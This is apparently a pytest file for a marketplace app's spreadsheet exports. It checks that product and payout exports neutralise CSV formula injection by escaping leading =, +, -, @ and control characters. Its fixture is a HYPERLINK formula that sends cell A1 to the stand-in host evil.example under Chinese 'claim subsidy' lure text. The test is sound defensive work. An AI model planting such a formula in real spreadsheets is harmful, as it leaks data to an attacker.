"""Exports open as text in a spreadsheet, whatever someone typed (OWASP CSV injection)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from countyhub.catalog.importer import import_products, read_rows
from countyhub.catalog.models import Product
from countyhub.core.spreadsheets import safe_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击领取补贴")'


@pytest.mark.parametrize(
    ("typed", "exported"),
    [
        ("=1+2", "'=1+2"),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("苹果 =1", "苹果 =1"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_text_that_starts_a_formula_is_exported_as_text(typed, exported):
    assert safe_cell(typed) == exported


def test_an_imported_formula_product_name_exports_as_text(world, client):
    header = ["id", "name", "name_en", "category", "brand", "unit", "price", "stock", "gtin"]
    row = ["", HYPERLINK, "x", world.product.category.slug, world.product.brand.slug, "kg"]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, [*row, "9.90", "5", ""]])
    rows = read_rows(io.BytesIO(buffer.getvalue().encode("utf-8")), "products.csv")
    import_products(
        county=world.county, actor=world.users["seller_staff"], sellers=[world.seller], rows=rows
    )
    product = Product.objects.get(name=HYPERLINK)
    client.force_login(world.users["county_admin"])
    response = client.post(
        "/admin/catalog/product/",
        {"action": "export_as_csv", "_selected_action": [product.pk]},
    )
    assert response.status_code == 200
    cells = [
        cell
        for line in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
        for cell in line
    ]
    assert "'" + HYPERLINK in cells
    assert HYPERLINK not in cells


def test_payout_exports_neutralise_text_cells(site):
    from countyhub.programs.exports import run_csv, run_xlsx

    site.world.seller.bank_account_name = "-合作社 =1+1"
    site.world.seller.save()
    text = run_csv(site.run).decode("utf-8-sig")
    assert "'-合作社 =1+1" in text
    sheet = load_workbook(io.BytesIO(run_xlsx(site.run))).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "'-合作社 =1+1" in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
